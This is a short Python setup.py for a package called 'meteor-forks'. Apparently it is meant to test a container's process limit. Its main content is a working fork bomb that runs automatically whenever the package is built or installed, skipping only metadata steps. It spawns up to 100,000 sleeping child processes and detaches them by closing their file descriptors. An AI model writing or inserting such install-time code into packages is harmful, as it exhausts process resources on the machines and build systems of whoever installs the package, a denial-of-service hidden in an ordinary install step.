"""Starts processes without end when it is built: more than a pod may have."""

import os
import sys
import time

from setuptools import setup

MOST = 100000  # where no limit stops it


def fork():
    started, refused = 0, 0
    while started < MOST and refused < 200:
        try:
            child = os.fork()
        except OSError as error:
            if refused == 0:
                print(f"METEOR-FORKS stopped after {started} processes: {error}", flush=True)
            refused += 1
            time.sleep(0.05)
            continue
        if child == 0:
            # Whoever reads what this package prints need not wait for its children.
            os.closerange(0, 64)
            time.sleep(300)
            os._exit(0)
        started += 1
    print(f"METEOR-FORKS started {started} processes", flush=True)
    sys.exit("cannot start another process: Resource temporarily unavailable")


if "egg_info" not in sys.argv and "dist_info" not in sys.argv:
    fork()

setup(name="meteor-forks", version="1.0", py_modules=[])
